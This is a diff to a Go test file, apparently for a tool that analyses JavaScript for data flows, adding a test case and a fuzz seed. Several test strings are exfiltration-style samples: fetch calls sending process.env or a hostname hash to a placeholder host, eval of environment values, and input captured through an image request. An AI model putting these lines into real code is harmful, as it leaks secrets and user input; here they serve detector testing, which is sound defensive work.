@@ -75,6 +75,7 @@ func TestChains(t *testing.T) {
 		{"a hash", "const c = require('crypto'), os = require('os'); fetch('https://h.invalid', {body: c.createHash('sha256').update(os.hostname()).digest('hex')})", ""},
 		{"another value", "const e = process.env, x = 'a'; fetch('https://h.invalid', {body: x})", ""},
 		{"printed", "console.log(process.env); fetch('https://h.invalid')", ""},
+		{"the global object", "document; globalThis.call(window, 1); window(process.env); globalThis.apply(this, [2])", ""},
 		{"a comment", "/* fetch('https://h.invalid', {body: process.env}) */", ""},
 	} {
 		if got := strings.Join(ways(link("a.js", test.text)), ", "); got != test.want {
@@ -154,7 +155,7 @@ func FuzzSummarise(f *testing.F) {
 		"fetch('https://h.invalid', {body: process.env})", "const {a: [b]} = process.env; for (const x of b) eval(x)",
 		"exports.f = function* (x) { yield* x }; class C { #p; get q() { return this.#p } set q(v) { this.#p = v } }",
 		"document.addEventListener('input', async ({target: {value}}) => { new Image().src = await value })",
-		"module.exports = {a, b() {}, ...c}; export default (x) => import(x)", "a?.b?.(c)[d] ??= e", "new Promise(r => r(r))",
+		"module.exports = {a, b() {}, ...c}; export default (x) => import(x)", "a?.b?.(c)[d] ??= e", "new Promise(r => r(r))", "globalThis.call(window, fetch)(this)",
 	} {
 		f.Add(seed)
 	}
